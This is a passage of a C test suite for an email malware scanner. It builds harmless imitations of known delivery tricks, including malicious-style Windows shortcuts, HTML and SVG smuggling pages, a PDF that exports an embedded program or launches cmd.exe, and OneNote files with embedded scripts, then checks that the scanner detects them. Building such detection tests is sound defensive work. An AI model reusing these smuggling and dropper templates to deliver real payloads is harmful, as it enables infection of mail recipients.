/* Today's wrappers on real bytes: Windows shortcuts (fixtures written per
 * MS-SHLLINK by tests/fixtures/lnk/make_lnk.py), HTML/SVG smuggling, PDF
 * embedded files and actions, OneNote embedded files. Each format is checked
 * twice: what its extractor makes of it (objects, notes, damaged hits), and
 * the verdict a whole message gets from the default rules — with near misses
 * beside every row that must fire. */
#include <archive.h>
#include <archive_entry.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <zlib.h>

#include "testutil.h"
#include "zhi.h"

#define FIXTURES ZH_SOURCE_DIR "/tests/fixtures"

static struct blob fixture(const char *rel)
{
    char path[512];
    snprintf(path, sizeof path, "%s/%s", FIXTURES, rel);
    return slurp(path);
}

/* An archive of the given files, written by libarchive in format fmt
 * ("iso9660", "zip") with options (or NULL), encrypted with passphrase (or NULL). */
static struct blob archive_pw_of(const char *fmt, const char *options, const char *passphrase,
                                 const char *const *names, const struct blob *files, size_t n)
{
    size_t cap = 1 << 20, used = 0;
    for (size_t i = 0; i < n; i++)
        cap += files[i].len + 4096;
    struct blob b = {malloc(cap), 0};
    struct archive *a = archive_write_new();
    assert_int_equal(archive_write_set_format_by_name(a, fmt), ARCHIVE_OK);
    if (options)
        assert_int_equal(archive_write_set_options(a, options), ARCHIVE_OK);
    if (passphrase)
        assert_int_equal(archive_write_set_passphrase(a, passphrase), ARCHIVE_OK);
    assert_int_equal(archive_write_open_memory(a, b.p, cap, &used), ARCHIVE_OK);
    for (size_t i = 0; i < n; i++) {
        struct archive_entry *e = archive_entry_new();
        archive_entry_set_pathname(e, names[i]);
        archive_entry_set_size(e, (la_int64_t)files[i].len);
        archive_entry_set_filetype(e, AE_IFREG);
        archive_entry_set_perm(e, 0644);
        assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
        assert_int_equal(archive_write_data(a, files[i].p, files[i].len), (la_ssize_t)files[i].len);
        archive_entry_free(e);
    }
    assert_int_equal(archive_write_close(a), ARCHIVE_OK);
    archive_write_free(a);
    b.len = used;
    return b;
}

/* An ISO 9660 image with Joliet and Rock Ridge names, as IT and the waves made them. */
static struct blob iso_of(const char *const *names, const struct blob *files, size_t n)
{
    return archive_pw_of("iso9660", "joliet,rockridge", NULL, names, files, n);
}

static struct blob zip_of(const char *const *names, const struct blob *files, size_t n)
{
    return archive_pw_of("zip", NULL, NULL, names, files, n);
}

/* A ZipCrypto zip, as `zip -P` and payroll providers write them. */
static struct blob zip_pw_of(const char *pw, const char *const *names, const struct blob *files,
                             size_t n)
{
    return archive_pw_of("zip", "zip:encryption=traditional", pw, names, files, n);
}

/* A small PE: a DOS header pointing at "PE\0\0"; nothing runs. */
static struct blob tiny_pe(void)
{
    struct blob b = {calloc(1, 512), 512};
    memcpy(b.p, "MZ\x90\0\x03\0\0\0\x04\0", 10);
    b.p[0x3c] = 0x80;
    memcpy(b.p + 0x80, "PE\0\0", 4);
    return b;
}

/* ---- the extractors, through the extract stage --------------------------- */

struct fixture {
    struct zh_config cfg;
    struct zhi_arena arena;
    struct zhi_scan scan;
};

static int setup_stage(void **state)
{
    struct fixture *f = calloc(1, sizeof *f);
    zh_config_defaults(&f->cfg);
    zhi_arena_init(&f->arena, 64 * 1024);
    *state = f;
    return 0;
}

static int teardown_stage(void **state)
{
    struct fixture *f = *state;
    zhi_arena_free(&f->arena);
    zh_config_free(&f->cfg);
    free(f);
    return 0;
}

/* Extract one attachment named `name`; the scan's objects are then inspected. */
static struct zhi_scan *extract(struct fixture *f, const char *name, const struct blob *b)
{
    return extract_one(&f->scan, &f->cfg, &f->arena, name, b);
}

/* Every fixture's notes and text object, as lnkinfo reads the same files. */
static void test_lnk_extract(void **state)
{
    struct fixture *f = *state;
    static const struct {
        const char *file, *target, *arguments, *working_dir, *icon, *text;
    } rows[] = {
        {"bumblebee-rundll32.lnk", "%windir%\\system32\\rundll32.exe", "documents.dll,IternalJob",
         NULL, "%SystemRoot%\\System32\\imageres.dll",
         "target: %windir%\\system32\\rundll32.exe\narguments: documents.dll,IternalJob\n"},
        /* only the environment block names the program; the padding is trimmed */
        {"qakbot-cmd.lnk", "%windir%\\system32\\cmd.exe",
         "/c start /min regsvr32 -s data\\resemblance.tmp", NULL,
         "C:\\Windows\\System32\\shell32.dll", NULL},
        /* an ANSI shortcut: LinkInfo's local path */
        {"emotet-powershell.lnk", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "-w hidden -c \"Write-Output 'zerohour test sample'\"", NULL, NULL,
         "name: Invoice 2022-04\n"},
        {"report-document.lnk", "C:\\Users\\Public\\Documents\\Quarterly Report.pdf", NULL,
         "C:\\Users\\Public\\Documents", NULL, NULL},
        {"console-noargs.lnk", "C:\\Windows\\System32\\cmd.exe", NULL, "C:\\", NULL, NULL},
    };
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        char rel[128], path[160];
        snprintf(rel, sizeof rel, "lnk/%s", rows[i].file);
        struct blob b = fixture(rel);
        struct zhi_scan *s = extract(f, rows[i].file, &b);
        snprintf(path, sizeof path, "2/%s", rows[i].file);
        const struct zhi_object *o = object(s, path);
        assert_non_null(o);
        assert_int_equal(o->sniffed, ZHI_T_LNK);
        const char *want[] = {rows[i].target, rows[i].arguments, rows[i].working_dir, rows[i].icon};
        const char *keys[] = {"lnk.target", "lnk.arguments", "lnk.working_dir",
                              "lnk.icon_location"};
        for (size_t k = 0; k < 4; k++) {
            const char *got = zhi_object_attr(o, keys[k]);
            if ((want[k] == NULL) != (got == NULL) || (got && strcmp(got, want[k]))) {
                dump_objects(s);
                fail_msg("%s: %s is \"%s\", want \"%s\"", rows[i].file, keys[k],
                         got ? got : "(none)", want[k] ? want[k] : "(none)");
            }
        }
        snprintf(path, sizeof path, "2/%s/shortcut.txt", rows[i].file);
        const struct zhi_object *t = object(s, path);
        assert_non_null(t);
        if (rows[i].text && !strstr((const char *)t->data, rows[i].text)) {
            dump_objects(s);
            fail_msg("%s: the text lacks \"%s\"", rows[i].file, rows[i].text);
        }
        assert_null(stage_hit(s, "malformed_shortcut"));
        free(b.p);
    }
    /* The rundll32 shortcut names its program in three places: the one that
     * differs in spelling only is not noted twice. */
    struct blob b = fixture("lnk/bumblebee-rundll32.lnk");
    struct zhi_scan *s = extract(f, "x.lnk", &b);
    const struct zhi_object *o = object(s, "2/x.lnk");
    size_t targets = 0;
    for (size_t k = 0; k < o->n_attrs; k++)
        targets += !strcmp(o->attrs[k].key, "lnk.target");
    assert_int_equal(targets, 2); /* %windir%\... and C:\Windows\System32\rundll32.exe */
    free(b.p);
}

/* A shortcut cut short, and one whose lengths point past its end: a damaged,
 * unscannable hit, what was read kept, no crash. */
static void test_lnk_damaged(void **state)
{
    struct fixture *f = *state;
    struct blob b = fixture("lnk/truncated.lnk");
    struct zhi_scan *s = extract(f, "Invoice.lnk", &b);
    const struct zhi_hit *h = stage_hit(s, "malformed_shortcut");
    assert_non_null(h);
    assert_true(h->flags & ZH_HIT_UNSCANNABLE);
    assert_string_equal(zhi_object_attr(object(s, "2/Invoice.lnk"), "lnk.arguments"),
                        "documents.dll,IternalJob");
    free(b.p);
    /* Every length field of a real shortcut set to 0xffff in turn. */
    b = fixture("lnk/emotet-powershell.lnk");
    for (size_t off = 0x4c; off + 2 <= b.len; off++) {
        uint8_t save[2] = {b.p[off], b.p[off + 1]};
        b.p[off] = b.p[off + 1] = 0xff;
        extract(f, "fuzzed.lnk", &b);
        b.p[off] = save[0];
        b.p[off + 1] = save[1];
    }
    free(b.p);
}

/* ---- HTML smuggling pages --------------------------------------------------- */

/* printf into a malloc'd blob. */
static struct blob blobf(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static struct blob blobf(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(NULL, 0, fmt, ap);
    va_end(ap);
    struct blob b = {malloc((size_t)n + 1), (size_t)n};
    va_start(ap, fmt);
    vsnprintf((char *)b.p, (size_t)n + 1, fmt, ap);
    va_end(ap);
    return b;
}

/* Byte values as a JavaScript list: "77,90,144,...". */
static char *byte_values(const struct blob *b)
{
    char *out = malloc(b->len * 4 + 1), *o = out;
    for (size_t i = 0; i < b->len; i++)
        o += sprintf(o, "%s%u", i ? "," : "", b->p[i]);
    *o = 0;
    return out;
}

/* The Qakbot page of 2022: the zip's base64 encoded again, decoded twice by
 * atob, turned into bytes and offered through a Blob with a download name. */
static struct blob qakbot_page(const struct blob *zip)
{
    char *once = b64(zip->p, zip->len, false);
    char *twice = b64((const uint8_t *)once, strlen(once), false);
    struct blob page =
        blobf("<!DOCTYPE html><html><head><title>Document</title></head><body>\n"
              "<p>Loading the document, please wait...</p>\n<script>\n"
              "var text = '%s';\n"
              "var data = atob(atob(text));\nvar bytes = new Uint8Array(data.length);\n"
              "for (var i = 0; i < data.length; i++) bytes[i] = data.charCodeAt(i);\n"
              "var blob = new Blob([bytes], {type: 'application/zip'});\n"
              "var a = document.createElement('a');\na.href = window.URL.createObjectURL(blob);\n"
              "a.download = 'TXRP_Invoice_1907.zip';\ndocument.body.appendChild(a);\na.click();\n"
              "</script></body></html>\n",
              twice);
    free(once);
    free(twice);
    return page;
}

/* The Qakbot → ISO → shortcut chain of the issue, and the techniques one by
 * one: each page's notes, the rebuilt member's name and type. */
static void test_smuggling_extract(void **state)
{
    struct fixture *f = *state;
    struct blob lnk = fixture("lnk/bumblebee-rundll32.lnk"), pe = tiny_pe();
    const char *iso_names[] = {"Invoice.lnk", "data.dll"};
    struct blob iso_files[] = {lnk, pe};
    struct blob iso = iso_of(iso_names, iso_files, 2);
    const char *zip_names[] = {"Invoice.iso"};
    struct blob zip = zip_of(zip_names, &iso, 1);
    struct blob page = qakbot_page(&zip);
    struct zhi_scan *s = extract(f, "Document.html", &page);
    const struct zhi_object *o = object(s, "2/Document.html");
    assert_string_equal(zhi_object_attr(o, "html.smuggling"), "atob-double");
    const struct zhi_object *z = object(s, "2/Document.html/TXRP_Invoice_1907.zip");
    if (!z) {
        dump_objects(s);
        fail_msg("the zip was not rebuilt");
    }
    assert_int_equal(z->sniffed, ZHI_T_ZIP);
    assert_int_equal(z->len, zip.len);
    assert_memory_equal(z->data, zip.p, zip.len);
    const struct zhi_object *l =
        object(s, "2/Document.html/TXRP_Invoice_1907.zip/Invoice.iso/Invoice.lnk");
    if (!l) {
        dump_objects(s);
        fail_msg("the chain was not followed to the shortcut");
    }
    assert_string_equal(zhi_object_attr(l, "lnk.arguments"), "documents.dll,IternalJob");
    free(page.p);

    /* The techniques of other waves, each rebuilding the PE. */
    char *values = byte_values(&pe);
    char *pe64 = b64(pe.p, pe.len, false);
    char rev[2048];
    size_t rl = strlen(pe64);
    for (size_t i = 0; i < rl; i++)
        rev[i] = pe64[rl - 1 - i];
    rev[rl] = 0;
    struct {
        struct blob page;
        const char *name, *technique, *member;
    } rows[] = {
        {blobf("<html><body><script>var b = new Blob([new Uint8Array([%s])]);"
               "window.navigator.msSaveOrOpenBlob(b, 'scan_0412.exe');</script></body></html>",
               values),
         "scan.html", "byte-array", "2/scan.html/scan_0412.exe"},
        {blobf("<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA[\n"
               "var s = String.fromCharCode(%s);\nvar u = new Uint8Array(s.length);\n"
               "var b = new Blob([u], {type: 'application/octet-stream'});\n"
               "var a = document.createElement('a'); a.href = URL.createObjectURL(b);\n"
               "a.download = 'update.exe'; a.click();\n]]></script></svg>",
               values),
         "image.svg", "char-codes", "2/image.svg/update.exe"},
        {blobf("<html><body><a href=\"data:application/octet-stream;base64,%s\" "
               "download=\"Statement.exe\">Download your statement</a></body></html>",
               pe64),
         "statement.htm", "data-uri-download", "2/statement.htm/Statement.exe"},
        {blobf("<html><script>var t = \"%s\".split('').reverse().join('');"
               "var blob = new Blob([Uint8Array.from(atob(t), c => c.charCodeAt(0))]);"
               "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);"
               "a.click();</script></html>",
               rev),
         "reversed.html", "atob-reversed", "2/reversed.html/blob.bin"},
    };
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        s = extract(f, rows[i].name, &rows[i].page);
        char path[64];
        snprintf(path, sizeof path, "2/%s", rows[i].name);
        const char *t = zhi_object_attr(object(s, path), "html.smuggling");
        const struct zhi_object *m = object(s, rows[i].member);
        if (!t || strcmp(t, rows[i].technique) || !m || m->sniffed != ZHI_T_PE ||
            m->len != pe.len) {
            dump_objects(s);
            fail_msg("%s: technique %s, member %s", rows[i].name, t ? t : "(none)",
                     m ? "wrong" : "missing");
        }
        free(rows[i].page.p);
    }

    /* A payload in an alphabet of the page's own, decoded by its script: no
     * literal shows its bytes, so it is noted unresolved. */
    char hexs[4096];
    for (size_t i = 0; i < 1500; i++)
        sprintf(hexs + 2 * i, "%c%c", "!$%&*.:;?@"[i % 10], "~^|#"[i % 4]);
    page =
        blobf("<html><script>var h = '%s'; var b = new Uint8Array(h.length / 2);"
              "for (var i = 0; i < b.length; i++) b[i] = parseInt(h.substr(i * 2, 2), 16) ^ 77;"
              "var a = document.createElement('a');"
              "a.href = URL.createObjectURL(new Blob([b])); a.download = 'x.zip';</script></html>",
              hexs);
    s = extract(f, "invoice.html", &page);
    assert_string_equal(zhi_object_attr(object(s, "2/invoice.html"), "html.smuggling"),
                        "unresolved");
    free(page.p);

    /* Near misses: a newsletter with inline images and a page whose script
     * sets an image from a data: URI hand nothing to the reader. */
    page = blobf("<!DOCTYPE html><html><body><h1>Spring sale</h1>"
                 "<img src=\"data:image/png;base64,%s\" alt=\"logo\">"
                 "<a href=\"https://shop.example.com/sale\">Shop now</a>"
                 "<script>document.getElementById('x').src = 'data:image/gif;base64,%s';"
                 "var t = atob('%s');</script></body></html>",
                 pe64, pe64, pe64);
    s = extract(f, "newsletter.html", &page);
    if (s->n_objects != 1 || zhi_object_attr(&s->objects[0], "html.smuggling")) {
        dump_objects(s);
        fail_msg("a newsletter rebuilt a file");
    }
    free(page.p);
    free(values);
    free(pe64);
    free(lnk.p), free(pe.p), free(iso.p), free(zip.p);
}

/* ---- PDF ---------------------------------------------------------------------- */

struct pdf_obj {
    const char *dict;      /* the dictionary's entries, without << >> */
    const uint8_t *stream; /* NULL: no stream */
    size_t len;
};

/* A PDF of the objects (numbered from 1) with a cross-reference table and a
 * trailer whose extra entries are `trailer`. */
static struct blob pdf_of(const struct pdf_obj *o, size_t n, const char *trailer)
{
    size_t cap = 4096;
    for (size_t i = 0; i < n; i++)
        cap += strlen(o[i].dict) + o[i].len + 128;
    struct blob b = {malloc(cap), 0};
    size_t offs[32];
    assert_true(n < 32);
    b.len = (size_t)sprintf((char *)b.p, "%%PDF-1.7\n%%\xe2\xe3\xcf\xd3\n");
    for (size_t i = 0; i < n; i++) {
        offs[i] = b.len;
        if (o[i].stream) {
            b.len +=
                (size_t)sprintf((char *)b.p + b.len, "%zu 0 obj\n<< %s /Length %zu >>\nstream\n",
                                i + 1, o[i].dict, o[i].len);
            memcpy(b.p + b.len, o[i].stream, o[i].len);
            b.len += o[i].len;
            b.len += (size_t)sprintf((char *)b.p + b.len, "\nendstream\nendobj\n");
        } else {
            b.len += (size_t)sprintf((char *)b.p + b.len, "%zu 0 obj\n<< %s >>\nendobj\n", i + 1,
                                     o[i].dict);
        }
    }
    size_t xref = b.len;
    b.len += (size_t)sprintf((char *)b.p + b.len, "xref\n0 %zu\n0000000000 65535 f \n", n + 1);
    for (size_t i = 0; i < n; i++)
        b.len += (size_t)sprintf((char *)b.p + b.len, "%010zu 00000 n \n", offs[i]);
    b.len += (size_t)sprintf((char *)b.p + b.len,
                             "trailer\n<< /Size %zu /Root 1 0 R %s >>\nstartxref\n%zu\n%%%%EOF\n",
                             n + 1, trailer, xref);
    return b;
}

static struct blob deflated(const void *p, size_t len)
{
    uLongf out = compressBound(len);
    struct blob b = {malloc(out), 0};
    assert_int_equal(compress2(b.p, &out, p, len, 6), Z_OK);
    b.len = out;
    return b;
}

/* A statement: a catalog, a page, its text and a compressed image. */
#define PDF_PAGES                                                                                  \
    {"/Type /Catalog /Pages 2 0 R", NULL, 0}, {"/Type /Pages /Kids [3 0 R] /Count 1", NULL, 0},    \
    {                                                                                              \
        "/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R", NULL, 0               \
    }

static void test_pdf_extract(void **state)
{
    struct fixture *f = *state;
    struct blob pe = tiny_pe(), zpe = deflated(pe.p, pe.len);
    static const char text[] = "BT /F1 12 Tf 72 720 Td (Statement of account, January) Tj ET";
    struct blob img = deflated(text, sizeof text); /* any compressed bytes */
    const char *xml = "<?xml version=\"1.0\"?><rsm:CrossIndustryInvoice/>";
    struct blob zxml = deflated(xml, strlen(xml));

    /* A dropper: an OpenAction JavaScript exporting an embedded program. */
    const struct pdf_obj dropper[] = {
        {"/Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x) 5 0 R] >> >> "
         "/OpenAction << /S /JavaScript /JS (this.exportDataObject({cName: 'x', nLaunch: 2});) >>",
         NULL, 0},
        {"/Type /Pages /Kids [3 0 R] /Count 1", NULL, 0},
        {"/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R", NULL, 0},
        {"", (const uint8_t *)text, sizeof text - 1},
        {"/Type /Filespec /F (invoice.pdf) /UF <FEFF0069006E0076006F006900630065002E006500780065> "
         "/EF << /F 6 0 R >>",
         NULL, 0},
        {"/Type /EmbeddedFile /Filter /FlateDecode", zpe.p, zpe.len},
    };
    struct blob b = pdf_of(dropper, 6, "");
    struct zhi_scan *s = extract(f, "Invoice.pdf", &b);
    const struct zhi_object *o = object(s, "2/Invoice.pdf");
    const struct zhi_object *m = object(s, "2/Invoice.pdf/invoice.exe");
    if (!m || m->sniffed != ZHI_T_PE || m->len != pe.len || !zhi_object_attr(o, "pdf.javascript") ||
        !zhi_object_attr(o, "pdf.openaction") || stage_hit(s, "undecodable_pdf")) {
        dump_objects(s);
        fail_msg("the dropper's program, named by its /UF, and its actions");
    }
    free(b.p);

    /* The same with the file specification and the action inside an object
     * stream (PDF 1.5), and names spelt with #xx escapes. */
    const char objstm_text[] = "7 0 8 120 "
                               "<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R >> "
                               "<< /Type /Filespec /F (update.exe) /EF << /F 6 0 R >> >> "
                               "<< /S /J#61vaScript /JS (app.alert(1);) >>";
    struct blob zstm = deflated(objstm_text, sizeof objstm_text - 1);
    const struct pdf_obj modern[] = {
        {"/Type /ObjStm /N 3 /First 10 /Filter /FlateDecode", zstm.p, zstm.len},
        {"/Type /Pages /Kids [3 0 R] /Count 1", NULL, 0},
        {"/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R", NULL, 0},
        {"", (const uint8_t *)text, sizeof text - 1},
        {"/Type /XObject /Subtype /Image /Width 8 /Height 8 /Filter /FlateDecode", img.p, img.len},
        {"/Type /EmbeddedFile /Filter [/FlateDecode]", zpe.p, zpe.len},
    };
    b = pdf_of(modern, 6, "");
    s = extract(f, "scan.pdf", &b);
    o = object(s, "2/scan.pdf");
    m = object(s, "2/scan.pdf/update.exe");
    if (!m || m->sniffed != ZHI_T_PE || !zhi_object_attr(o, "pdf.javascript") ||
        !zhi_object_attr(o, "pdf.objstm")) {
        dump_objects(s);
        fail_msg("objects in an object stream");
    }
    free(b.p);

    /* /Launch names what it starts. */
    const struct pdf_obj launch[] = {
        {"/Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c "
         "start x) >> >>",
         NULL, 0},
        {"/Type /Pages /Kids [] /Count 0", NULL, 0},
    };
    b = pdf_of(launch, 2, "");
    s = extract(f, "doc.pdf", &b);
    assert_string_equal(zhi_object_attr(object(s, "2/doc.pdf"), "pdf.launch"), "cmd.exe");
    free(b.p);

    /* What cannot be decoded is not CLEAN: another filter, an encrypted file. */
    const struct pdf_obj lzw[] = {
        PDF_PAGES,
        {"", (const uint8_t *)text, sizeof text - 1},
        {"/Type /Filespec /F (a.bin) /EF << /F 6 0 R >>", NULL, 0},
        {"/Type /EmbeddedFile /Filter /LZWDecode", (const uint8_t *)"\x80\x0b\x60\x50", 4},
    };
    b = pdf_of(lzw, 6, "");
    s = extract(f, "lzw.pdf", &b);
    const struct zhi_hit *h = stage_hit(s, "undecodable_pdf");
    assert_non_null(h);
    assert_true(h->flags & ZH_HIT_UNSCANNABLE);
    free(b.p);
    const struct pdf_obj enc_stm[] = {
        {"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zstm.p, zstm.len},
        {"/Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4", NULL, 0},
    };
    b = pdf_of(enc_stm, 2, "/Encrypt 2 0 R");
    s = extract(f, "locked.pdf", &b);
    assert_non_null(stage_hit(s, "undecodable_pdf"));
    assert_non_null(zhi_object_attr(object(s, "2/locked.pdf"), "pdf.encrypted"));
    free(b.p);
    /* A cut embedded file: what was read kept, and a hit. */
    const struct pdf_obj cut[] = {
        PDF_PAGES,
        {"", (const uint8_t *)text, sizeof text - 1},
        {"/Type /EmbeddedFile /Filter /FlateDecode", zpe.p, zpe.len / 2},
    };
    b = pdf_of(cut, 5, "");
    s = extract(f, "cut.pdf", &b);
    assert_non_null(stage_hit(s, "undecodable_pdf"));
    free(b.p);

    /* Near misses: a statement (compressed page and image), an encrypted one
     * without embedded files or object streams, and an e-invoice (PDF/A-3
     * carrying its XML, as ZUGFeRD/Factur-X do): nothing undecodable, the XML
     * extracted, no action noted. */
    const struct pdf_obj statement[] = {
        PDF_PAGES,
        {"", (const uint8_t *)text, sizeof text - 1},
        {"/Type /XObject /Subtype /Image /Width 8 /Height 8 /Filter /FlateDecode", img.p, img.len},
        {"/Type /Filespec /F (factur-x.xml) /AFRelationship /Data /EF << /F 7 0 R >>", NULL, 0},
        {"/Type /EmbeddedFile /Subtype /text#2Fxml /Filter /FlateDecode", zxml.p, zxml.len},
    };
    b = pdf_of(statement, 7, "");
    s = extract(f, "statement.pdf", &b);
    o = object(s, "2/statement.pdf");
    m = object(s, "2/statement.pdf/factur-x.xml");
    if (!m || strcmp((const char *)m->data, xml) || s->n_hits ||
        zhi_object_attr(o, "pdf.javascript") || zhi_object_attr(o, "pdf.launch")) {
        dump_objects(s);
        fail_msg("an e-invoice");
    }
    free(b.p);
    const struct pdf_obj plain_locked[] = {
        PDF_PAGES,
        {"", (const uint8_t *)text, sizeof text - 1},
        {"/Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4", NULL, 0},
    };
    b = pdf_of(plain_locked, 5, "/Encrypt 5 0 R");
    s = extract(f, "statement.pdf", &b);
    assert_int_equal(s->n_hits, 0);
    free(b.p);
    free(pe.p), free(zpe.p), free(img.p), free(zxml.p), free(zstm.p);
}

/* ---- OneNote -------------------------------------------------------------------- */

/* The 2023 wave's section: a "click to view" image, an HTA, a batch file and
 * a program, each named by its content; the same inside a .onepkg (a CAB). */
static void test_onenote_extract(void **state)
{
    struct fixture *f = *state;
    static const struct {
        const char *path;
        enum zhi_type type;
    } members[] = {
        {"embedded-1.png", ZHI_T_PNG},
        {"embedded-2.hta", ZHI_T_HTML},
        {"embedded-3.bat", ZHI_T_SCRIPT},
        {"embedded-4.exe", ZHI_T_PE},
    };
    const char *const files[] = {"remittance.one", "remittance.onepkg"};
    const char *const prefixes[] = {"2/Remittance.one", "2/Remittance.onepkg/remittance.one"};
    for (size_t k = 0; k < 2; k++) {
        char rel[64];
        snprintf(rel, sizeof rel, "onenote/%s", files[k]);
        struct blob b = fixture(rel);
        struct zhi_scan *s = extract(f, k ? "Remittance.onepkg" : "Remittance.one", &b);
        for (size_t i = 0; i < sizeof members / sizeof members[0]; i++) {
            char path[128];
            snprintf(path, sizeof path, "%s/%s", prefixes[k], members[i].path);
            const struct zhi_object *m = object(s, path);
            if (!m || m->sniffed != members[i].type || m->kind != ZHI_K_MEMBER ||
                (m->flags & ZHI_OBJ_TRUNCATED)) {
                dump_objects(s);
                fail_msg("%s: %s", files[k], path);
            }
        }
        if (s->n_hits) {
            dump_objects(s);
            fail_msg("%s: a hit on a sound section", files[k]);
        }
        free(b.p);
    }
    /* A length past the end: what is there is kept, truncated, and a hit. */
    struct blob b = fixture("onenote/cut.one");
    struct zhi_scan *s = extract(f, "cut.one", &b);
    const struct zhi_object *m = object(s, "2/cut.one/embedded-2.exe");
    assert_non_null(object(s, "2/cut.one/embedded-1.bat"));
    assert_non_null(m);
    assert_true(m->flags & ZHI_OBJ_TRUNCATED);
    const struct zhi_hit *h = stage_hit(s, "malformed_onenote");
    assert_non_null(h);
    assert_true(h->flags & ZH_HIT_UNSCANNABLE);
    free(b.p);
}

/* ---- verdicts, through the public API ---------------------------------------- */

static const char *const RCPT[] = {"alice@corp.example.com"};
static const struct zh_scan_envelope ENV = {.client_ip = "198.51.100.40",
                                            .helo = "mail.fabrikam.example",
                                            .mail_from = "carol@fabrikam.example",
                                            .rcpt_to = RCPT,
                                            .n_rcpt = 1,
                                            .received_at = 1675000000000};

/* One message with a short text and one attachment, from `from` (its
 * domain also in the Message-ID) over env, scanned by sc. */
struct mail {
    zh_scanner *sc;
    const struct zh_scan_envelope *env;
    const char *from, *text;
};

static const struct zh_result *scan_mail(const struct mail *ml, const char *name, const char *ctype,
                                         const struct blob *b)
{
    char *enc = b64(b->p, b->len, true);
    size_t cap = strlen(enc) + 4096;
    char *m = malloc(cap);
    const char *dom = strchr(ml->from, '@') + 1;
    snprintf(m, cap,
             "From: %s\r\nTo: alice@corp.example.com\r\n"
             "Subject: documents\r\nDate: Sun, 29 Jan 2023 10:00:00 +0000\r\n"
             "Message-ID: <20230129100000.77@%s>\r\nMIME-Version: 1.0\r\n"
             "Content-Type: multipart/mixed; boundary=\"zz\"\r\n\r\n--zz\r\n"
             "Content-Type: text/plain; charset=us-ascii\r\n\r\n%s"
             "\r\n--zz\r\nContent-Type: %s\r\nContent-Transfer-Encoding: base64\r\n"
             "Content-Disposition: attachment; filename=\"%s\"\r\n\r\n%s\r\n--zz--\r\n",
             ml->from, dom, ml->text, ctype, name, enc);
    const struct zh_result *r;
    zh_scanner_scan(ml->sc, (const uint8_t *)m, strlen(m), ml->env, 0, &r);
    assert_int_equal(r->status, 0);
    free(m);
    free(enc);
    return r;
}

/* A message from an ordinary sender with a short text and one attachment. */
static const struct zh_result *scan_attachment(const char *name, const char *ctype,
                                               const struct blob *b)
{
    const struct mail ml = {scanner, &ENV, "carol@fabrikam.example",
                            "Hi Alice, here are the files we talked about on Friday."};
    return scan_mail(&ml, name, ctype, b);
}

static const struct zh_result_hit *find(const struct zh_result *r, const char *det,
                                        const char *rule)
{
    for (size_t i = 0; i < r->n_hits; i++)
        if (!strcmp(r->hits[i].detector, det) && (!rule || !strcmp(r->hits[i].rule, rule)))
            return &r->hits[i];
    return NULL;
}

static void dump(const struct zh_result *r)
{
    fprintf(stderr, "   verdict %d score %d\n", r->verdict, r->score);
    for (size_t i = 0; i < r->n_hits; i++)
        fprintf(stderr, "   %s/%s %s (%d): %s\n", r->hits[i].detector, r->hits[i].rule,
                r->hits[i].object, r->hits[i].score, r->hits[i].detail);
}

struct verdict_row {
    const char *what;
    const char *name, *ctype;
    struct blob data;
    const char *detector, *rule; /* must fire; NULL: nothing of `quiet` may */
    int min_verdict, max_verdict;
};

static void check_rows(const struct verdict_row *rows, size_t n, const char *quiet)
{
    for (size_t i = 0; i < n; i++) {
        const struct zh_result *r = scan_attachment(rows[i].name, rows[i].ctype, &rows[i].data);
        bool fired = rows[i].rule ? find(r, rows[i].detector, rows[i].rule) != NULL
                                  : find(r, quiet, NULL) != NULL;
        if (fired != (rows[i].rule != NULL) || r->verdict < rows[i].min_verdict ||
            r->verdict > rows[i].max_verdict) {
            dump(r);
            fail_msg("%s: %s/%s %s, verdict %d (want %d..%d)", rows[i].what,
                     rows[i].detector ? rows[i].detector : quiet, rows[i].rule ? rows[i].rule : "*",
                     fired ? "fired" : "silent", r->verdict, rows[i].min_verdict,
                     rows[i].max_verdict);
        }
    }
}

static void test_shortcut_verdicts(void **state)
{
    struct blob pe = tiny_pe();
    struct blob rundll = fixture("lnk/bumblebee-rundll32.lnk");
    struct blob doc = fixture("lnk/report-document.lnk");
    struct blob cmd = fixture("lnk/qakbot-cmd.lnk");
    struct blob ps = fixture("lnk/emotet-powershell.lnk");
    struct blob edge = fixture("lnk/intranet-browser.lnk");
    struct blob console = fixture("lnk/console-noargs.lnk");
    struct blob pdf = {(uint8_t *)"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n", 48};
    struct blob script = {(uint8_t *)"@echo off\r\nregsvr32 -s data.dll\r\n", 33};
    /* Bumblebee's ISO: the shortcut and its DLL; IcedID's: a shortcut and a batch file. */
    const char *bb_names[] = {"Documents.lnk", "documents.dll"};
    struct blob bb_files[] = {doc, pe};
    struct blob bb = iso_of(bb_names, bb_files, 2);
    const char *ice_names[] = {"Invoice.lnk", "tell.cmd"};
    struct blob ice_files[] = {doc, script};
    struct blob ice = iso_of(ice_names, ice_files, 2);
    /* IT's software delivery: a shortcut beside a PDF manual in an ISO. */
    const char *it_names[] = {"Manual.lnk", "manual.pdf"};
    struct blob it_files[] = {doc, pdf};
    struct blob it = iso_of(it_names, it_files, 2);
    const struct verdict_row rows[] = {
        {"rundll32 shortcut", "Invoice.lnk", "application/octet-stream", rundll, "shortcut",
         "shortcut_runs_system_program", ZH_VERDICT_MALICIOUS, ZH_VERDICT_MALICIOUS},
        {"cmd via the environment block", "Invoice.lnk", "application/octet-stream", cmd,
